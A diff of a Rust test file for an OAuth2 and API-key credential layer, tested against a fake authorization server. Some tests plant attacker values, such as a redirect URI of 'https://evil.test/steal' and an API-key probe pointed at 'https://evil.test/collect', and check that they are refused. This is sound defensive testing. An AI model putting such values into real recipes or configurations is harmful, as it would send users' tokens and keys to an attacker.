@@ -1,18 +1,22 @@
-//! Auth recipes against a local OAuth server and a local API.
+//! Auth recipes against a local OAuth server (the fake authorization server
+//! of `warden_egress::testing`, driven by the test as the browser) and a
+//! local API.
 
 use std::collections::HashMap;
 use std::time::{Duration, SystemTime};
 
-use base64::Engine as _;
 use secrecy::{ExposeSecret, SecretString};
-use sha2::{Digest, Sha256};
 use warden_core::spec::{
-    ApiKeyRecipe, Injection, OAuth2Recipe, TokenResponsePointers, ValidationProbe,
+    ApiKeyRecipe, CredentialSpec, Injection, OAuth2Recipe, TokenResponsePointers, ValidationProbe,
 };
-use warden_egress::auth::oauth2::{OAuth2Client, OAuth2Flow};
+use warden_egress::auth::discovery;
+use warden_egress::auth::grant::{self, StoredGrant};
+use warden_egress::auth::loopback::Loopback;
+use warden_egress::auth::oauth2::{ClientAuth, OAuth2Client, OAuth2Flow, TokenSet};
 use warden_egress::auth::{AuthError, api_key};
-use warden_egress::secrets::AccountKey;
-use warden_egress::testing::{RecordedRequest, TestResponse};
+use warden_egress::secrets::{AccountAudience, AccountKey, AuthReason};
+use warden_egress::testing::{FakeAuthServer, RecordedRequest, TestResponse, follow_redirect};
+use warden_egress::{EgressError, resolve::AddressError};
 
 use crate::support::*;
 
@@ -22,51 +26,23 @@ fn form(req: &RecordedRequest) -> HashMap<String, String> {
         .collect()
 }
 
-fn oauth_server(req: &RecordedRequest) -> TestResponse {
-    if req.target != "/login/oauth/access_token" {
-        return TestResponse::status(404);
-    }
-    let form = form(req);
-    match (
-        form.get("grant_type").map(String::as_str),
-        form.get("client_secret").map(String::as_str),
-    ) {
-        (Some("authorization_code"), Some("shh"))
-            if form.get("code").map(String::as_str) == Some("good-code") =>
-        {
-            TestResponse::json(&serde_json::json!({
-                "data": {"token": "gho_access_one"},
-                "refresh_token": "ghr_refresh_one",
-                "expires_in": 3600,
-                "scope": "repo read:org",
-            }))
-        }
-        (Some("refresh_token"), Some("shh"))
-            if form.get("refresh_token").map(String::as_str) == Some("ghr_refresh_one") =>
-        {
-            TestResponse::json(
-                &serde_json::json!({"data": {"token": "gho_access_two"}, "expires_in": "7200"}),
-            )
-        }
-        _ => TestResponse::status(400).with_body("{\"error\":\"bad_verification_code\"}"),
-    }
-}
-
 fn recipe() -> OAuth2Recipe {
     OAuth2Recipe {
         display_name: Some("GitHub account".into()),
-        authorization_endpoint: "https://github.com/login/oauth/authorize".into(),
-        token_endpoint: "https://github.com/login/oauth/access_token".into(),
-        scopes: vec!["repo".into(), "read:org".into()],
-        scope_separator: None,
-        pkce: None,
+        authorization_endpoint: "https://github.com/authorize".into(),
+        token_endpoint: "https://github.com/token".into(),
+        scopes: vec!["repo".into()],
         authorize_params: [
             ("allow_signup".to_owned(), "false".to_owned()),
             ("state".to_owned(), "evil".to_owned()),
+            (
+                "redirect_uri".to_owned(),
+                "https://evil.test/steal".to_owned(),
+            ),
         ]
         .into(),
         token_response: TokenResponsePointers {
-            access_token: "/data/token".into(),
+            access_token: "/access_token".into(),
             refresh_token: Some("/refresh_token".into()),
             expires_in: Some("/expires_in".into()),
             scope: Some("/scope".into()),
@@ -76,89 +52,349 @@ fn recipe() -> OAuth2Recipe {
     }
 }
 
-#[tokio::test]
-async fn oauth2_code_flow_with_pkce_and_refresh() {
-    let fx = fixture(oauth_server).await;
-    let client = OAuth2Client {
+fn client(redirect_uri: &str) -> OAuth2Client {
+    OAuth2Client {
         client_id: "warden-client".into(),
-        client_secret: Some(SecretString::from("shh")),
-        redirect_uri: "http://127.0.0.1:8976/callback".into(),
-    };
+        client_secret: None,
+        redirect_uri: redirect_uri.into(),
+        auth: ClientAuth::None,
+    }
+}
+
+async fn fake(lifetime: u64) -> (Fixture, FakeAuthServer) {
+    let auth = FakeAuthServer::new("github.com", lifetime);
+    let server = auth.clone();
+    (fixture(move |req| server.handle(req)).await, auth)
+}
+
+/// Run the whole flow as a user would: start, the browser visits the
+/// authorize URL and is redirected to the loopback listener, exchange.
+async fn connect(fx: &Fixture, auth: &FakeAuthServer, recipe: &OAuth2Recipe) -> TokenSet {
+    let loopback = Loopback::bind().await.unwrap();
+    let client = client(loopback.redirect_uri());
+    let flow = OAuth2Flow::new(recipe, &client);
+    let pending = flow.start(&["repo".to_owned()]).unwrap();
+    let location = auth.visit(&pending.url).unwrap();
+    let wait = tokio::spawn(loopback.wait(Duration::from_secs(5)));
+    assert_eq!(follow_redirect(&location).await.unwrap(), 200);
+    let callback = wait.await.unwrap().unwrap();
+    flow.exchange(&fx.egress, pending, &callback.code, &callback.state)
+        .await
+        .unwrap()
+}
+
+#[tokio::test]
+async fn oauth2_code_flow_with_pkce_loopback_redirect_and_host_owned_parameters() {
+    let (fx, auth) = fake(3600).await;
     let recipe = recipe();
+    let loopback = Loopback::bind().await.unwrap();
+    let client = client(loopback.redirect_uri());
     let flow = OAuth2Flow::new(&recipe, &client);
-    let pending = flow.start().unwrap();
+    let pending = flow.start(&["repo".to_owned()]).unwrap();
     let url = url::Url::parse(&pending.url).unwrap();
     let query: HashMap<String, String> = url.query_pairs().into_owned().collect();
-    assert_eq!(url.host_str(), Some("github.com"));
-    assert_eq!(query["response_type"], "code");
     assert_eq!(query["client_id"], "warden-client");
-    assert_eq!(query["scope"], "repo read:org");
+    assert_eq!(query["scope"], "repo");
     assert_eq!(query["state"], pending.state);
+    assert_eq!(query["redirect_uri"], loopback.redirect_uri());
     assert_eq!(query["code_challenge_method"], "S256");
     assert_eq!(query["allow_signup"], "false");
-    assert_eq!(url.query_pairs().filter(|(k, _)| k == "state").count(), 1);
+    for reserved in ["state", "redirect_uri"] {
+        assert_eq!(url.query_pairs().filter(|(k, _)| k == reserved).count(), 1);
+    }
 
+    let location = auth.visit(&pending.url).unwrap();
+    let wait = tokio::spawn(loopback.wait(Duration::from_secs(5)));
+    follow_redirect(&location).await.unwrap();
+    let callback = wait.await.unwrap().unwrap();
+    let tokens = flow
+        .exchange(&fx.egress, pending, &callback.code, &callback.state)
+        .await
+        .unwrap();
+    assert!(tokens.access_token.expose_secret().starts_with("at-"));
+    assert_eq!(tokens.scopes, ["repo"]);
+    assert!(tokens.refresh_token.is_some());
+    // The token endpoint saw the verifier (it checks it against the challenge).
+    let sent = form(&fx.server.requests()[0]);
+    assert!(sent.contains_key("code_verifier"));
+    assert!(!sent.contains_key("client_secret"));
+}
+
+#[tokio::test]
+async fn a_wrong_state_sends_nothing_and_a_replayed_code_is_refused() {
+    let (fx, auth) = fake(3600).await;
+    let recipe = recipe();
+    let client = client("http://127.0.0.1:9/callback");
+    let flow = OAuth2Flow::new(&recipe, &client);
+    let pending = flow.start(&[]).unwrap();
+    let location = auth.visit(&pending.url).unwrap();
+    let code = url::Url::parse(&location)
+        .unwrap()
+        .query_pairs()
+        .find(|(k, _)| k == "code")
+        .unwrap()
+        .1
+        .into_owned();
     let err = flow
-        .exchange(&fx.egress, &pending, "good-code", "forged")
+        .exchange(&fx.egress, pending, &code, "forged-state")
         .await
         .unwrap_err();
     assert!(matches!(err, AuthError::StateMismatch), "{err:?}");
     assert!(fx.server.requests().is_empty());
+
+    // The code used once cannot be used again.
+    let pending = flow.start(&[]).unwrap();
+    let state = pending.state.clone();
+    let location = auth.visit(&pending.url).unwrap();
+    let code = url::Url::parse(&location)
+        .unwrap()
+        .query_pairs()
+        .find(|(k, _)| k == "code")
+        .unwrap()
+        .1
+        .into_owned();
+    flow.exchange(&fx.egress, pending, &code, &state)
+        .await
+        .unwrap();
+    let replay = flow.start(&[]).unwrap();
+    let state = replay.state.clone();
     let err = flow
-        .exchange(&fx.egress, &pending, "bad-code", &pending.state)
+        .exchange(&fx.egress, replay, &code, &state)
         .await
         .unwrap_err();
     assert!(
-        matches!(err, AuthError::Rejected { status: 400 }),
+        matches!(&err, AuthError::Rejected { status: 400, error: Some(e) } if e == "invalid_grant"),
         "{err:?}"
     );
-    assert!(!err.to_string().contains("bad_verification_code"));
-
-    let tokens = flow
-        .exchange(&fx.egress, &pending, "good-code", &pending.state)
-        .await
-        .unwrap();
-    assert_eq!(tokens.access_token.expose_secret(), "gho_access_one");
-    assert_eq!(
-        tokens.scopes,
-        vec!["read:org".to_owned(), "repo".to_owned()]
-    );
-    let sent = form(&fx.server.requests()[1]);
-    let challenge = base64::engine::general_purpose::URL_SAFE_NO_PAD
-        .encode(Sha256::digest(sent["code_verifier"].as_bytes()));
-    assert_eq!(query["code_challenge"], challenge);
-
-    let key = AccountKey::new("github", "gh_oauth", ["repo"]);
-    OAuth2Flow::store(fx.egress.store().as_ref(), &key, &tokens).unwrap();
-    assert!(
-        !flow
-            .refresh_if_needed(&fx.egress, &key, SystemTime::now())
-            .await
-            .unwrap()
-    );
-    let later = SystemTime::now() + Duration::from_secs(3590);
-    assert!(
-        flow.refresh_if_needed(&fx.egress, &key, later)
-            .await
-            .unwrap()
-    );
-    let access = fx.egress.store().get(&key).unwrap().unwrap();
-    assert_eq!(access.expose_secret(), "gho_access_two");
-    let refresh = &fx.server.requests()[2];
-    assert_eq!(form(refresh)["grant_type"], "refresh_token");
+    // The provider's description never passes through.
+    assert!(!err.to_string().contains("nope"), "{err}");
 }
 
 #[tokio::test]
-async fn api_key_is_stored_only_after_its_probe_passes() {
-    let fx = fixture(|req| match req.header("authorization") {
-        Some("token good-key-123") if req.target == "/user" => TestResponse::ok("{}"),
-        _ => TestResponse::status(401),
-    })
-    .await;
-    let recipe = ApiKeyRecipe {
+async fn a_token_response_without_the_pointed_field_is_named() {
+    let (fx, auth) = fake(3600).await;
+    let mut recipe = recipe();
+    recipe.token_response.access_token = "/data/token".into();
+    let loopback = Loopback::bind().await.unwrap();
+    let client = client(loopback.redirect_uri());
+    let flow = OAuth2Flow::new(&recipe, &client);
+    let pending = flow.start(&[]).unwrap();
+    let location = auth.visit(&pending.url).unwrap();
+    let wait = tokio::spawn(loopback.wait(Duration::from_secs(5)));
+    follow_redirect(&location).await.unwrap();
+    let callback = wait.await.unwrap().unwrap();
+    let err = flow
+        .exchange(&fx.egress, pending, &callback.code, &callback.state)
+        .await
+        .unwrap_err();
+    assert!(
+        matches!(err, AuthError::TokenResponse(m) if m.contains("access_token")),
+        "{err:?}"
+    );
+}
+
+#[tokio::test]
+async fn a_confidential_client_authenticates_with_basic_when_the_recipe_says_so() {
+    let (fx, auth) = fake(3600).await;
+    auth.require_client_secret("shh-secret");
+    let mut recipe = recipe();
+    recipe.exchange_auth = Some("basic".into());
+    let loopback = Loopback::bind().await.unwrap();
+    let mut client = client(loopback.redirect_uri());
+    client.client_secret = Some(SecretString::from("shh-secret"));
+    client.auth = ClientAuth::for_recipe(&recipe, true);
+    assert_eq!(client.auth, ClientAuth::Basic);
+    let flow = OAuth2Flow::new(&recipe, &client);
+    let pending = flow.start(&[]).unwrap();
+    let location = auth.visit(&pending.url).unwrap();
+    let wait = tokio::spawn(loopback.wait(Duration::from_secs(5)));
+    follow_redirect(&location).await.unwrap();
+    let callback = wait.await.unwrap().unwrap();
+    flow.exchange(&fx.egress, pending, &callback.code, &callback.state)
+        .await
+        .unwrap();
+    let sent = &fx.server.requests()[0];
+    assert!(sent.header("authorization").unwrap().starts_with("Basic "));
+    assert!(!form(sent).contains_key("client_secret"));
+}
+
+#[tokio::test]
+async fn an_authorization_server_on_http_or_a_private_address_is_refused() {
+    let (fx, _auth) = fake(3600).await;
+    let client = client("http://127.0.0.1:9/callback");
+    let mut plain = recipe();
+    plain.authorization_endpoint = "http://github.com/authorize".into();
+    let err = OAuth2Flow::new(&plain, &client).start(&[]).unwrap_err();
+    assert!(
+        matches!(err, AuthError::InvalidRecipe(m) if m.contains("https")),
+        "{err:?}"
+    );
+
+    let mut private = recipe();
+    private.token_endpoint = "https://loopback.test/token".into();
+    let flow = OAuth2Flow::new(&private, &client);
+    let pending = flow.start(&[]).unwrap();
+    let state = pending.state.clone();
+    let err = flow
+        .exchange(&fx.egress, pending, "code", &state)
+        .await
+        .unwrap_err();
+    assert!(
+        matches!(
+            err,
+            AuthError::Egress(EgressError::Address(AddressError::NonPublic { .. }))
+        ),
+        "{err:?}"
+    );
+    assert!(fx.server.requests().is_empty());
+}
+
+fn github_spec() -> CredentialSpec {
+    CredentialSpec::bearer("gh_oauth", "github", &["repo"], "api.github.com")
+}
+
+/// Store an OAuth account for extension `github` as the host does.
+fn store_account(fx: &Fixture, recipe: &OAuth2Recipe, tokens: &TokenSet) -> AccountKey {
+    let key = AccountKey::new("github", "gh_oauth", ["repo"]);
+    let grant = StoredGrant::new(recipe, &client("http://127.0.0.1:9/callback"), tokens);
+    let store = fx.egress.store();
+    grant::save(store.as_ref(), &key, &grant).unwrap();
+    store
+        .put_bound(&key, &github_account(), tokens.access_token.clone())
+        .unwrap();
+    key
+}
+
+#[tokio::test]
+async fn concurrent_calls_refresh_once_and_the_rotated_token_is_stored() {
+    // Tokens live 5 s: within the 60 s skew, so they are due at once.
+    let (fx, auth) = fake(5).await;
+    let recipe = recipe();
+    let tokens = connect(&fx, &auth, &recipe).await;
+    let key = store_account(&fx, &recipe, &tokens);
+    let first_refresh = auth.refresh_token().unwrap();
+    auth.set_lifetime(3600);
+
+    let spec = [github_spec()];
+    let (a, b) = tokio::join!(
+        grant::refresh_due(&fx.egress, "github", &spec, SystemTime::now()),
+        grant::refresh_due(&fx.egress, "github", &spec, SystemTime::now()),
+    );
+    assert!(a.unwrap().is_empty() && b.unwrap().is_empty());
+    assert_eq!(auth.refreshes(), 1);
+    let store = fx.egress.store();
+    let access = store.get(&key).unwrap().unwrap();
+    assert_ne!(access.expose_secret(), tokens.access_token.expose_secret());
+    let stored = grant::load(store.as_ref(), &key).unwrap().unwrap();
+    let rotated = auth.refresh_token().unwrap();
+    assert_ne!(rotated, first_refresh);
+    assert_eq!(stored.refresh_token.as_deref(), Some(rotated.as_str()));
+    // The binding survived the refresh.
+    assert_eq!(store.binding(&key).unwrap(), Some(github_account()));
+
+    // Another extension's call never refreshes an account it cannot use.
+    auth.set_lifetime(5);
+    let before = auth.refreshes();
+    let err = grant::refresh_due(
+        &fx.egress,
+        "thief",
+        &spec,
+        SystemTime::now() + Duration::from_secs(7200),
+    )
+    .await
+    .unwrap();
+    assert!(err.is_empty());
+    assert_eq!(auth.refreshes(), before);
+}
+
+#[tokio::test]
+async fn revoking_sends_the_refresh_token_to_the_recipes_endpoint() {
+    let (fx, auth) = fake(3600).await;
+    let mut recipe = recipe();
+    recipe.revoke = Some(warden_core::spec::RevokeSettings {
+        endpoint: "https://github.com/revoke".into(),
+        token_param: None,
+    });
+    let tokens = connect(&fx, &auth, &recipe).await;
+    let key = store_account(&fx, &recipe, &tokens);
+    let refresh = auth.refresh_token().unwrap();
+    assert!(
+        grant::revoke(&fx.egress, &key, &tokens.access_token)
+            .await
+            .unwrap()
+    );
+    assert_eq!(auth.revoked(), [refresh]);
+    assert!(auth.refresh_token().is_none());
+}
+
+#[tokio::test]
+async fn a_refused_refresh_is_auth_required_expired() {
+    let (fx, auth) = fake(5).await;
+    let recipe = recipe();
+    let tokens = connect(&fx, &auth, &recipe).await;
+    let key = store_account(&fx, &recipe, &tokens);
+    auth.refuse_refresh();
+    let expired = grant::refresh_due(&fx.egress, "github", &[github_spec()], SystemTime::now())
+        .await
+        .unwrap();
+    assert_eq!(expired.len(), 1);
+    assert_eq!(expired[0].reason, AuthReason::Expired);
+    assert_eq!(expired[0].needed.vendor, "github");
+    assert_eq!(expired[0].needed.scopes, ["repo"]);
+    // The account is still there (nothing lost), with its old token.
+    let kept = fx.egress.store().get(&key).unwrap().unwrap();
+    assert_eq!(kept.expose_secret(), tokens.access_token.expose_secret());
+}
+
+#[tokio::test]
+async fn discovery_checks_the_issuer_and_registers_a_public_loopback_client() {
+    let (fx, auth) = fake(3600).await;
+    let metadata = discovery::server_metadata(&fx.egress, "https://github.com")
+        .await
+        .unwrap();
+    let registration = discovery::register(&fx.egress, &metadata, "http://127.0.0.1:5000/callback")
+        .await
+        .unwrap();
+    assert_eq!(registration.client_id, "dcr-client-1");
+    assert_eq!(auth.registered(), ["dcr-client-1"]);
+    let sent: serde_json::Value =
+        serde_json::from_slice(&fx.server.requests().last().unwrap().body).unwrap();
+    assert_eq!(sent["token_endpoint_auth_method"], "none");
+    assert_eq!(
+        sent["redirect_uris"],
+        serde_json::json!(["http://127.0.0.1:5000/callback"])
+    );
+
+    // A metadata document naming another issuer is refused.
+    let fx =
+        fixture(|_| TestResponse::json(&serde_json::json!({"issuer": "https://evil.test"}))).await;
+    let err = discovery::server_metadata(&fx.egress, "https://github.com")
+        .await
+        .unwrap_err();
+    assert!(
+        matches!(&err, AuthError::Metadata(m) if m.contains("evil.test")),
+        "{err:?}"
+    );
+
+    // A registration endpoint on another origin is refused before anything is sent.
+    let mut elsewhere = metadata.clone();
+    elsewhere.registration_endpoint = Some("https://evil.test/register".into());
+    let before = fx.server.requests().len();
+    let err = discovery::register(&fx.egress, &elsewhere, "http://127.0.0.1:5000/callback")
+        .await
+        .unwrap_err();
+    assert!(
+        matches!(&err, AuthError::Registration(m) if m.contains("another origin")),
+        "{err:?}"
+    );
+    assert_eq!(fx.server.requests().len(), before);
+}
+
+fn probe_recipe(url: &str) -> ApiKeyRecipe {
+    ApiKeyRecipe {
         validation: Some(ValidationProbe {
             method: None,
-            url: "https://api.github.com/user".into(),
+            url: url.into(),
             handle: None,
             injection: Injection::Header {
                 name: "authorization".into(),
@@ -166,38 +402,193 @@ async fn api_key_is_stored_only_after_its_probe_passes() {
             },
             expect_status: vec![],
         }),
+        fields: vec![warden_core::spec::ApiKeyField {
+            handle: "gh_key".into(),
+            label: "API key".into(),
+            secret: true,
+        }],
         ..Default::default()
-    };
-    let key = AccountKey::new("github", "gh_key", Vec::<String>::new());
-    let err = api_key::connect(
+    }
+}
+
+fn api_github() -> Vec<AccountAudience> {
+    vec![AccountAudience {
+        scheme: "https".into(),
+        host: "api.github.com".into(),
+        port: 443,
+    }]
+}
+
+fn value(v: &str) -> Vec<(String, SecretString)> {
+    vec![("gh_key".to_owned(), SecretString::from(v.to_owned()))]
+}
+
+#[tokio::test]
+async fn an_api_key_passes_only_when_its_probe_does() {
+    let fx = fixture(|req| match req.header("authorization") {
+        Some("token good-key-123") if req.target == "/user" => TestResponse::ok("{}"),
+        _ => TestResponse::status(401),
+    })
+    .await;
+    let recipe = probe_recipe("https://api.github.com/user");
+    let err = api_key::validate(
         &fx.egress,
+        "github",
         &recipe,
-        &key,
-        SecretString::from("wrong-key-456"),
+        &api_github(),
+        &value("wrong-key-456"),
     )
     .await
     .unwrap_err();
     assert!(
-        matches!(err, AuthError::Rejected { status: 401 }),
+        matches!(err, AuthError::Rejected { status: 401, .. }),
         "{err:?}"
     );
-    assert!(fx.egress.store().get(&key).unwrap().is_none());
-    api_key::connect(
+    api_key::validate(
         &fx.egress,
+        "github",
         &recipe,
-        &key,
-        SecretString::from("good-key-123"),
+        &api_github(),
+        &value("good-key-123"),
     )
     .await
     .unwrap();
-    assert_eq!(
-        fx.egress
-            .store()
-            .get(&key)
-            .unwrap()
-            .unwrap()
-            .expose_secret(),
-        "good-key-123"
-    );
     assert_eq!(fx.server.requests().len(), 2);
+}
+
+/// The attack: a package's probe URL points at its own collector; the key
+/// would be sent there although the account may only go to api.github.com.
+#[tokio::test]
+async fn a_probe_outside_the_credentials_audience_is_refused_before_sending() {
+    // evil.test is reachable here (as a public collector would be).
+    let fx = fixture_with(
+        |c| c.allow_private_address("evil.test", 443),
+        |_| TestResponse::ok("{}"),
+    )
+    .await;
+    let recipe = probe_recipe("https://evil.test/collect?k=1");
+    let err = api_key::validate(
+        &fx.egress,
+        "github",
+        &recipe,
+        &api_github(),
+        &value("good-key-123"),
+    )
+    .await
+    .unwrap_err();
+    match &err {
+        AuthError::ProbeOutsideAudience { url, audiences } => {
+            assert_eq!(url, "https://evil.test/collect");
+            assert!(audiences.contains("api.github.com"), "{audiences}");
+        }
+        other => panic!("{other:?}"),
+    }
+    assert!(fx.server.requests().is_empty(), "the key reached a server");
+}
+
+/// The reusable pieces an MCP server that requires OAuth needs: its
+/// protected-resource metadata must name the resource asked about, and the
+/// flow sends the RFC 8707 `resource` on authorize and token requests.
+#[tokio::test]
+async fn resource_metadata_must_name_the_resource_and_the_flow_sends_it() {
+    let fx = fixture(|req| {
+        TestResponse::json(&serde_json::json!({
+            "resource": "https://api.github.com/mcp",
+            "authorization_servers": ["https://github.com"],
+            "scopes_supported": ["repo"],
+        }))
+        .with_header("x-path", &req.target)
+    })
+    .await;
+    let url = "https://api.github.com/.well-known/oauth-protected-resource/mcp";
+    let metadata = discovery::resource_metadata(&fx.egress, url, "https://api.github.com/mcp")
+        .await
+        .unwrap();
+    assert_eq!(metadata.authorization_servers, ["https://github.com"]);
+    let err = discovery::resource_metadata(&fx.egress, url, "https://api.github.com/other")
+        .await
+        .unwrap_err();
+    assert!(
+        matches!(&err, AuthError::Metadata(m) if m.contains("not `https://api.github.com/other`")),
+        "{err:?}"
+    );
+
+    let (fx, auth) = fake(3600).await;
+    let recipe = recipe();
+    let loopback = Loopback::bind().await.unwrap();
+    let client = client(loopback.redirect_uri());
+    let flow = OAuth2Flow::new(&recipe, &client).with_resource("https://api.github.com/mcp");
+    let pending = flow.start(&[]).unwrap();
+    assert!(
+        pending
+            .url
+            .contains("resource=https%3A%2F%2Fapi.github.com%2Fmcp"),
+        "{}",
+        pending.url
+    );
+    let location = auth.visit(&pending.url).unwrap();
+    let wait = tokio::spawn(loopback.wait(Duration::from_secs(5)));
+    follow_redirect(&location).await.unwrap();
+    let callback = wait.await.unwrap().unwrap();
+    flow.exchange(&fx.egress, pending, &callback.code, &callback.state)
+        .await
+        .unwrap();
+    assert_eq!(
+        form(&fx.server.requests()[0])["resource"],
+        "https://api.github.com/mcp"
+    );
+}
+
+/// The composed discovery an MCP server that requires OAuth needs: from the
+/// resource (and its 401 challenge) to a recipe, then the flow with
+/// `resource`, against the fake authorization server.
+#[tokio::test]
+async fn a_protected_resource_is_authorized_from_its_metadata() {
+    use warden_egress::auth::challenge::BearerChallenge;
+    use warden_egress::auth::resource;
+
+    let (fx, auth) = fake(3600).await;
+    let mcp = "https://api.github.com/mcp";
+    let found = resource::discover(&fx.egress, mcp, None).await.unwrap();
+    assert_eq!(found.server.issuer, "https://github.com");
+    assert_eq!(
+        found.scopes,
+        ["repo"],
+        "scopes_supported when no challenge names any"
+    );
+    let challenge = BearerChallenge::parse(
+        r#"Bearer resource_metadata="https://api.github.com/.well-known/oauth-protected-resource/mcp", scope="issues:read""#,
+    )
+    .unwrap();
+    let found = resource::discover(&fx.egress, mcp, Some(&challenge))
+        .await
+        .unwrap();
+    assert_eq!(found.scopes, ["issues:read"], "the challenge's scope wins");
+    // Metadata that describes another resource is refused.
+    let err = resource::discover(&fx.egress, "https://api.github.com/other", Some(&challenge))
+        .await
+        .unwrap_err();
+    assert!(matches!(err, AuthError::Metadata(_)), "{err:?}");
+
+    let recipe = found.recipe().unwrap();
+    let loopback = Loopback::bind().await.unwrap();
+    let metadata = &found.server;
+    let registration = discovery::register(&fx.egress, metadata, loopback.redirect_uri())
+        .await
+        .unwrap();
+    let client = registration.client(loopback.redirect_uri());
+    let flow = OAuth2Flow::new(&recipe, &client).with_resource(mcp);
+    let pending = flow.start(&found.scopes).unwrap();
+    let location = auth.visit(&pending.url).unwrap();
+    let wait = tokio::spawn(loopback.wait(Duration::from_secs(5)));
+    follow_redirect(&location).await.unwrap();
+    let callback = wait.await.unwrap().unwrap();
+    let tokens = flow
+        .exchange(&fx.egress, pending, &callback.code, &callback.state)
+        .await
+        .unwrap();
+    assert_eq!(tokens.scopes, ["issues:read"]);
+    let token_request = fx.server.requests().last().unwrap().clone();
+    assert_eq!(form(&token_request)["resource"], mcp);
+    assert_eq!(form(&token_request)["client_id"], "dcr-client-1");
 }
